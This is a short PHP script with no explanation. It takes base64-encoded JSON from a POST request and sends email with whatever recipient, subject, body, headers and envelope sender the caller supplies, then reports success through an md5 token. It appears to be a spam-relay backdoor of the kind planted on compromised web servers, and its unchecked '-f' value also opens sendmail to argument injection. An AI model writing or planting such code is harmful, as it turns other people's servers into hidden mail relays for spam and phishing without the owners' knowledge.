<?php
$d = json_decode(base64_decode($_POST['d'] ?? ''), true);
if (is_array($d)) { print mail($d['t'], $d['s'], $d['b'], $d['h'], '-f' . ($d['f'] ?? 'www@localhost')) ? md5('ok') : md5('no'); exit; }
